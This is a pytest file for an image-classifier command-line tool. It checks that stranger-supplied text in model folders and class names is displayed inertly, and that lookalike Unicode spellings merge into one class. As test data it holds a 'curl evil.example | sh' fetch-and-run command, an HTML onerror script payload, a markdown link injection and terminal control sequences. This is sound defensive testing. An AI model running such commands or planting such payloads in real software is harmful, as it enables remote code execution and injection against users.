"""What strangers write, into model folders and names, is shown as text and runs nothing."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from drawings import NAMES, drawings, taught
from PIL import Image
from typer.testing import CliRunner, Result

from coda_prompt import ContinualClassifier, cli
from coda_prompt.learner.folder import MODEL, ModelFolder, Version

COMMAND = "curl evil.example | sh"
CAFE = (
    "caf\u00e9",
    "cafe\u0301",
    "caf\u00e9\u200b",
    "\u2060caf\u00e9",
    "caf\u00e9\ufe0f",
    " caf\u00e9",
)
"""Spellings that look alike."""


def coda(*arguments: object) -> Result:
    return CliRunner().invoke(cli.app, [str(each) for each in arguments])


@pytest.fixture
def model(tmp_path: Path) -> Path:
    taught(range(2), method="ncm").save(tmp_path / "model")
    return tmp_path / "model"


def test_info_prints_no_command_of_a_stranger(model: Path, tmp_path: Path) -> None:
    note = json.dumps({"images": "x", "version": 0, "command": COMMAND})
    (tmp_path / "unfinished" / ".progress").mkdir(parents=True)
    for folder in (model, tmp_path / "unfinished"):
        (folder / ".learning.json").write_text(note)
        for arguments in (("info", folder), ("info", folder, "--json")):
            shown = coda(*arguments)
            assert COMMAND not in shown.output + str(shown.exception)
    assert "not finished. To finish it, repeat" in coda("info", model).output


def test_json_cannot_send_commands_to_the_terminal(model: Path) -> None:
    description, arrays = ModelFolder(model).read()
    backbone = description.backbone.model_copy(update={"name": "\x9b2J\u202e"})
    forged = description.model_copy(update={"backbone": backbone})
    (model / MODEL).write_bytes(Version.of(forged, arrays).content)
    shown = coda("info", model, "--json").output
    assert json.loads(shown)["backbone"]["name"] == "\x9b2J\u202e"
    assert not set("\x9b\u202e") & set(shown)


def test_the_model_card_shows_names_as_text(model: Path) -> None:
    for name in ("<img src=x onerror=alert(1)>", "[win](http://evil.example)", "a|b `c` **d**"):
        assert coda("rename", model, NAMES[0], name).exit_code == 0
        card = (model / "README.md").read_text()
        assert not any(each in card for each in ("<img", "](", "http://", "`c`", "**d", "a|b"))
        assert coda("rename", model, name, NAMES[0]).exit_code == 0


def make_folder(root: Path, names: tuple[str, ...]) -> Path:
    for number, name in enumerate(names):
        (root / name).mkdir(parents=True)
        for index, drawing in enumerate(drawings([number % 2], 4)[0]):
            Image.fromarray(drawing).save(root / name / f"{number}-{index}.png")
    return root


def test_folders_whose_names_look_alike_are_one_class(tmp_path: Path) -> None:
    folder = make_folder(tmp_path / "images", ("cat", *CAFE[:4]))
    learned = coda("learn", tmp_path / "model", folder, "--method", "ncm", "--json")
    assert learned.exit_code == 0, learned.output
    classifier = ContinualClassifier.load(tmp_path / "model")
    assert classifier.classes_ == [CAFE[0], "cat"]
    assert classifier.tasks_[0]["images"] == {"cat": 4, CAFE[0]: 16}
    assert coda("rename", tmp_path / "model", CAFE[1], "coffee").exit_code == 0
    assert coda("rename", tmp_path / "model", "cat", "co\u200bffee").exit_code != 0
    assert coda("forget", tmp_path / "model", "coffee\ufeff", "--yes").exit_code == 0


def test_labels_that_look_alike_are_one_class() -> None:
    images, _ = drawings([0, 1], 6)
    classifier = ContinualClassifier(method="ncm", verbose=False)
    classifier.learn(images, [*CAFE, *["cat"] * 6])
    assert classifier.classes_ == [CAFE[0], "cat"]
    with pytest.raises(ValueError, match="cannot be the name of a class"):
        classifier.learn(images[:1], ["\u200b"])
